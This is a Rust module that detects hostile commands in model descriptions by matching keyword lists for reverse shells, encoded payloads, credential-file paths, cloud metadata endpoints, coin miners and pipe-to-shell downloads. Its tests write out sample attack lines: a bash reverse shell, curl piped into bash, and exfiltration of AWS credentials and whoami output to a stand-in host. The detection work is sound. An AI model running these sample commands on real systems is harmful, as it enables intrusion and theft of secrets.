//! Texts in the description of a model that are commands or code nobody writes there for a good reason.

/// Words that only a hostile text has, in lower case, with what it does.
const WORDS: &[(&str, &str)] = &[
    ("/dev/tcp/", OPENS),
    ("/dev/udp/", OPENS),
    ("bash -i", OPENS),
    ("sh -i ", OPENS),
    ("nc -e", OPENS),
    ("ncat -e", OPENS),
    ("nc -c", OPENS),
    ("ncat --exec", OPENS),
    ("| nc ", OPENS),
    ("|nc ", OPENS),
    ("socat exec", OPENS),
    ("socat tcp", OPENS),
    ("socket.socket(", OPENS),
    ("new-object net.sockets", OPENS),
    ("powershell -e", HIDES),
    ("powershell.exe -e", HIDES),
    ("-encodedcommand", HIDES),
    ("frombase64string", HIDES),
    ("base64.b64decode", HIDES),
    ("| base64 -d", HIDES),
    ("|base64 -d", HIDES),
    ("base64 --decode", HIDES),
    ("xxd -r", HIDES),
    ("runtime.getruntime", STARTS),
    ("processbuilder", STARTS),
    ("java.lang.runtime", STARTS),
    ("java.lang.system", STARTS),
    ("scriptenginemanager", EVALUATES),
    ("child_process", STARTS),
    ("activexobject", STARTS),
    ("wscript.shell", STARTS),
    ("eval(parse(", EVALUATES),
    ("system2(", STARTS),
    ("base::system(", STARTS),
    ("shell.exec(", STARTS),
    ("<script", EVALUATES),
    ("javascript:", EVALUATES),
    ("new function(", EVALUATES),
    ("${jndi:", "has an address looked up that serves code"),
    ("__subclasses__", REACHES),
    ("__globals__", REACHES),
    ("__builtins__", REACHES),
    ("__mro__", REACHES),
    ("__class__.__", REACHES),
    ("rm -rf /", "deletes files"),
    ("rm -rf ~", "deletes files"),
    ("rm -rf $home", "deletes files"),
    ("/etc/shadow", "reaches for secrets"),
    (".ssh/id_", "reaches for secrets"),
    (".ssh/authorized_keys", "reaches for secrets"),
    (".aws/credentials", "reaches for secrets"),
    ("169.254.169.254", "asks the cloud for credentials"),
    ("metadata.google.internal", "asks the cloud for credentials"),
    ("xmrig", "mines coins"),
    ("stratum+tcp", "mines coins"),
    ("crontab -", "makes itself stay"),
    ("chmod +x /tmp/", "fetches a program and has it run"),
    ("chmod 777 /tmp/", "fetches a program and has it run"),
];

const OPENS: &str = "opens a connection that takes commands";
const HIDES: &str = "hides what it runs";
const STARTS: &str = "starts a program";
const EVALUATES: &str = "evaluates text";
const REACHES: &str = "reaches for what leads to any function";

/// Parts of a request that put what the machine says of itself into it.
const SENDS: &[&str] = &[
    "$(env)",
    "`env`",
    "$(cat ",
    "`cat ",
    "$(whoami)",
    "`whoami`",
    "$(id)",
    "`id`",
    "$(hostname)",
];

/// What a text does that no description of a model has to do.
pub fn hostile(text: &str) -> Option<&'static str> {
    let lower = text.to_ascii_lowercase();
    if fetches_and_runs(text) {
        return Some("fetches a script and has it run");
    }
    if let Some((_, what)) = WORDS.iter().find(|(word, _)| lower.contains(word)) {
        return Some(what);
    }
    let fetches = ["curl ", "wget ", "http://", "https://", "nslookup ", "dig "]
        .iter()
        .any(|word| lower.contains(word));
    if fetches && SENDS.iter().any(|word| lower.contains(word)) {
        return Some("sends away what it finds");
    }
    call_in(text).map(|_| STARTS)
}

/// Calls that start a program or evaluate text. A name of a method or of a longer word is none.
const CALLS: &[&str] = &[
    "__import__(",
    "builtins.exec(",
    "compile(",
    "eval(",
    "exec(",
    "marshal.loads(",
    "os.execv(",
    "os.popen(",
    "os.spawnl(",
    "os.system(",
    "pickle.loads(",
    "pty.spawn(",
    "runpy.run_path(",
    "subprocess.Popen(",
    "subprocess.call(",
    "subprocess.check_call(",
    "subprocess.check_output(",
    "subprocess.getoutput(",
    "subprocess.run(",
];

/// A call in Python that a text is, with what it is called with.
pub fn call_in(text: &str) -> Option<&'static str> {
    CALLS
        .iter()
        .find(|call| {
            text.match_indices(**call).any(|(at, _)| {
                let before = text.get(..at).unwrap_or_default().chars().next_back();
                let behind = text
                    .get(at.saturating_add(call.len())..)
                    .unwrap_or_default();
                !before.is_some_and(|c| c.is_alphanumeric() || matches!(c, '_' | '.'))
                    // Without an argument it is a mention.
                    && !behind.trim_start().starts_with(')')
                    && !behind.trim().is_empty()
            })
        })
        .copied()
}

/// Whether a shell line fetches something and has it run at once.
pub fn fetches_and_runs(line: &str) -> bool {
    let lower = line.to_ascii_lowercase();
    let has = |words: &[&str]| words.iter().any(|word| lower.contains(word));
    let fetches = has(&[
        "curl ",
        "wget ",
        "iwr ",
        "invoke-webrequest",
        "invoke-restmethod",
        "irm ",
        "downloadstring",
    ]);
    if !fetches {
        return false;
    }
    let into_shell = lower.split('|').skip(1).any(|part| {
        let program = part
            .split_whitespace()
            .find(|word| !matches!(*word, "sudo" | "env" | "-e"));
        program.is_some_and(|program| {
            let name = program.rsplit('/').next().unwrap_or_default();
            matches!(
                name.trim_matches(['"', '\'']),
                "sh" | "bash"
                    | "zsh"
                    | "dash"
                    | "python"
                    | "python3"
                    | "node"
                    | "perl"
                    | "ruby"
                    | "iex"
                    | "invoke-expression"
            )
        })
    });
    into_shell
        || has(&[
            "iex(",
            "iex (",
            "invoke-expression",
            "<(curl",
            "<(wget",
            "$(curl",
            "$(wget",
            "eval ",
        ])
}

#[cfg(test)]
mod tests {
    use super::hostile;

    #[test]
    fn commands_of_pipelines_are_told_from_attacks() {
        for text in [
            "curl -s https://x.example/x.sh | bash",
            "wget -qO- x.example|sh",
            "bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'",
            "echo aWQ= | base64 -d | sh",
            "python -c \"__import__('os').system('id')\"",
            "powershell -EncodedCommand SQBFAFgA",
            "curl -d @$HOME/.aws/credentials https://x.example",
            "curl https://x.example/?u=$(whoami)",
            "{{ ''.__class__.__mro__[1].__subclasses__() }}",
            "java.lang.Runtime.getRuntime().exec('id')",
        ] {
            assert!(hostile(text).is_some(), "{text}");
        }
        for text in [
            "python src/train.py --epochs 3",
            "wget https://data.example/a.zip && unzip a.zip",
            "Rscript analysis.R | tee log.txt",
            "make -C src all",
            "papermill in.ipynb out.ipynb -p url https://data.example",
            "rm -rf build && mkdir build",
            "petal length (cm)",
        ] {
            assert_eq!(hostile(text), None, "{text}");
        }
    }
}
